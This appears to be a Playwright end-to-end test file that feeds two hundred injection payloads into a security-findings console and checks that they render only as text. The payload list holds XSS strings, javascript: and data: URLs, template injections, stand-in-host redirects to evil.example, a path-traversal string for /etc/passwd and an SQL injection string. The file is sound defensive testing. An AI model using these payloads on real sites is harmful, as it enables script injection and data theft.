import type { Browser, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { openPage, startBrowser, type Watched } from './browser.ts'
import { buildConsole } from './built.ts'
import { type Fixture, startFixture } from './fixture-api.ts'

vi.setConfig({ testTimeout: 240_000 })

const bodies = [
  '<script>pwned()</script>',
  '"><script>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<iframe srcdoc="<script>parent.pwned()</script>">',
  '<details open ontoggle=pwned()>',
  '<math><mi xlink:href="javascript:pwned()">',
  '<a href="javascript:pwned()">x</a>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=q>',
  "'-pwned()-'",
  '\u0024{pwned()}',
  '{{constructor.constructor("pwned()")()}}',
  '{@html "<img src=x onerror=pwned()>"}',
  'javascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  '</textarea><script>pwned()</script>',
  '</title><script>pwned()</script>',
  '<!--<img src="--><img src=x onerror=pwned()>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<template><script>pwned()</script></template>',
  '\u202Egnp.exe\u202C',
  '\u2066\u202Eover\u2069ridden',
  '\u200B\u200D\uFEFF hidden',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324',
  'مرحبا <b>بالعالم</b>',
  '\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '%3Cscript%3Epwned()%3C/script%3E',
  'a'.repeat(3_000),
  '__proto__',
  'constructor',
  'null',
  '../../../../etc/passwd',
  '"; drop table findings; --',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
]
const around: ((body: string) => string)[] = [
  (body) => body,
  (body) => `"'>${body}`,
  (body) => `${body}\n\t${body}`,
  (body) => body.toUpperCase(),
  (body) => `on load ${body} <`,
]
/** Two hundred, each with a mark by which it is found on the page as text. */
const payloads = around.flatMap((wrap, way) => bodies.map((body, n) => `§${way * bodies.length + n}§ ${wrap(body)}`))

/** What is ours and not a tool's: ids, times, and words of our own lists. */
const ours = new Set([
  'id',
  'kind',
  'severity',
  'status',
  'state',
  'subjectId',
  'journeyId',
  'act',
  'worst',
  'key',
  'role',
  'findingId',
  'stage',
  'value',
  'program',
])
const isTime = (text: string) => /^\d{4}-\d{2}-\d{2}T/.test(text)

let browser: Browser
let world: Fixture
let watched: Watched
let next = 0
const take = () => payloads[next++ % payloads.length] ?? ''

/** The answer with a payload in place of every text a tool could have given. */
function poisoned(value: unknown, key = ''): unknown {
  if (Array.isArray(value)) return value.map((each) => poisoned(each, key))
  if (value !== null && typeof value === 'object')
    return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, poisoned(each, name)]))
  if (typeof value !== 'string' || ours.has(key) || isTime(value)) return value
  return key === 'deepLink'
    ? ['javascript:pwned()', 'data:text/html,<script>pwned()</script>', 'vbscript:pwned()', ' javascript:pwned()'][next++ % 4]
    : take()
}

beforeAll(async () => {
  await buildConsole()
  browser = await startBrowser()
}, 180_000)
afterAll(() => browser?.close())
beforeEach(async () => {
  world = await startFixture()
})
afterEach(async () => {
  await watched?.page.context().close()
  await world.stop()
})

async function open(path: string, change: (answer: Record<string, unknown>, url: URL) => unknown): Promise<Page> {
  watched = await openPage(browser)
  const { page } = watched
  page.on('dialog', (dialog) => {
    watched.complaints.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  await page.addInitScript(() => {
    Reflect.set(globalThis, 'pwned', () => console.error('pwned'))
  })
  await page.route('**/api/v1/findings**', async (route) => {
    const response = await route.fetch()
    const body = (await response.json()) as Record<string, unknown>
    await route.fulfill({ response, json: change(body, new URL(route.request().url())) })
  })
  await page.goto(world.url + path)
  return page
}

/** Nothing a payload could have made: elements, handlers, or links anywhere but to the web. */
async function expectTextOnly(page: Page): Promise<void> {
  const found = await page.evaluate(() => {
    const main = document.querySelector('main') ?? document.body
    const links = [...main.querySelectorAll('a[href]')] as HTMLAnchorElement[]
    return {
      made: main.querySelectorAll(
        'script, iframe, img, object, embed, base, meta, link, style, form[action], math, [onerror], [onload], [ontoggle]',
      ).length,
      strange: links.filter((link) => !/^https?:$/.test(new URL(link.href).protocol)).map((link) => link.href),
      open: links
        .filter((link) => new URL(link.href).origin !== location.origin && !/\bnoopener\b/.test(link.rel))
        .map((link) => link.href),
      // What pushes the page wider than the window, by its class.
      wide:
        document.documentElement.scrollWidth <= innerWidth
          ? []
          : [...main.querySelectorAll('*')]
              .filter((each) => each.getBoundingClientRect().right > innerWidth && !each.closest('.overflow-x-auto, .overflow-hidden'))
              .map((each) => `${each.tagName} ${each.className}`)
              .slice(0, 5),
    }
  })
  expect(found).toEqual({ made: 0, strange: [], open: [], wide: [] })
  expect(watched.complaints).toEqual([])
}
const marksOn = (page: Page) =>
  page.evaluate(() => new Set([...(document.querySelector('main')?.textContent ?? '').matchAll(/§(\d+)§/g)].map(([, mark]) => mark)).size)

const findingId = 'f1d00000-5b1e-4c0a-9d2f-000000019919'

describe('S14: two hundred payloads in every field a tool fills', () => {
  it('are text on the page of a finding, its evidence opened, its links refused, its raw form too', async () => {
    const page = await open(`/findings/${findingId}`, (answer, url) => {
      if (!url.pathname.endsWith(findingId)) return poisoned(answer)
      const [evidence] = answer.evidence as unknown[]
      const [entry] = answer.activity as Record<string, unknown>[]
      next = 0
      return {
        ...(poisoned(answer) as object),
        evidence: payloads.map(() => poisoned(evidence)),
        activity: payloads.map((payload, n) => ({
          ...entry,
          id: `a-${n}`,
          act: 'comment',
          actor: payload,
          body: payload,
          reason: payload,
        })),
      }
    })
    await page.getByRole('heading', { name: /Expected and observed|What the tools show/ }).waitFor({ timeout: 90_000 })
    await page.getByRole('heading', { name: 'How it ended before' }).waitFor()
    const rows = page.locator('td button[aria-expanded]')
    for (const row of [0, 1, 2, 3, 90, 199]) await rows.nth(row).press('Enter')
    expect(await marksOn(page)).toBe(200)
    expect(await page.locator('main a[target]').count()).toBe(0)
    await expectTextOnly(page)
    await page.keyboard.press('r')
    await page.getByRole('heading', { name: 'As the API sends it' }).waitFor()
    await expectTextOnly(page)
  })

  it('are text in the list, its groups and the panel beside it, with names of a million letters', async () => {
    const long = 'm'.repeat(1_000_000)
    const page = await open('/findings', (answer, url) => {
      const { items } = answer as { items?: Record<string, unknown>[] }
      if (!url.pathname.endsWith('/findings') || !items) return poisoned(answer)
      return {
        ...answer,
        items: items.map((item, n) => ({
          ...(poisoned(item) as object),
          sentence: n === 1 ? `§1§ ${long}` : payloads[n],
          object: { type: take(), id: n === 2 ? long : take() },
        })),
      }
    })
    await page.locator('[data-row]').first().waitFor({ timeout: 90_000 })
    await expectTextOnly(page)
    for (let step = 0; step < 30; step += 1) await page.keyboard.press('j')
    await page.keyboard.press(' ')
    await page.getByRole('complementary', { name: 'Peek at the finding' }).getByRole('heading', { name: 'Activity' }).waitFor()
    await expectTextOnly(page)
    await page.goto(`${world.url}/findings?group=kind`)
    await page.locator('h2 button[aria-expanded]').first().press('Enter')
    await page.locator('[data-row]').first().waitFor()
    await expectTextOnly(page)
  })

  it('are text where the address holds them', async () => {
    const page = await open('/findings', (answer) => answer)
    await page.locator('[data-row]').first().waitFor({ timeout: 90_000 })
    for (const payload of bodies.slice(0, 12)) {
      await page.goto(
        `${world.url}/findings?q=${encodeURIComponent(payload)}&owner=${encodeURIComponent(payload)}&group=${encodeURIComponent(payload)}`,
      )
      await page.getByText('Nothing matches these filters').waitFor()
      await expectTextOnly(page)
    }
  })

  it('leave a link to the web alone, and open it without a hold on this page', async () => {
    const page = await open(`/findings/${findingId}`, (answer) => {
      const evidence = (answer.evidence as Record<string, unknown>[] | undefined)?.map((row) => ({
        ...row,
        deepLink: 'https://tool.example/r/1',
      }))
      return evidence ? { ...answer, evidence } : answer
    })
    const link = page.getByRole('link', { name: /^Open the record in/ }).first()
    await link.waitFor({ timeout: 90_000 })
    expect([await link.getAttribute('href'), await link.getAttribute('rel')]).toEqual(['https://tool.example/r/1', 'noopener noreferrer'])
    await expectTextOnly(page)
  })
})
